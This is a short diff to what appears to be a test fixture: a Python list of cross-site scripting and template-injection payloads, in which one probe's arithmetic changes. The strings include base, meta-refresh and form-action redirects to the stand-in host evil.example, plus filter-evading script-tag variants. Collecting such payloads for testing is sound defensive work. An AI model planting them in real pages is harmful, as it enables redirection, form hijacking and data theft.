@@ -17,7 +17,7 @@ XSS = (
     "<base href=//evil.example/>",
     "<meta http-equiv=refresh content=0;url=//evil.example>",
     "<form action=//evil.example><button>x",
-    "{{ 7 * 7 }}{% for x in y %}${7*7}",
+    "{{ 7 * 1283 }}{% for x in y %}${7*1283}",
     "&lt;script&gt;alert(1)&lt;/script&gt;",
     "\u202e<b>\u2028\ufeff<img src=x>",
     "<ſcript>alert(1)</ſcript>",
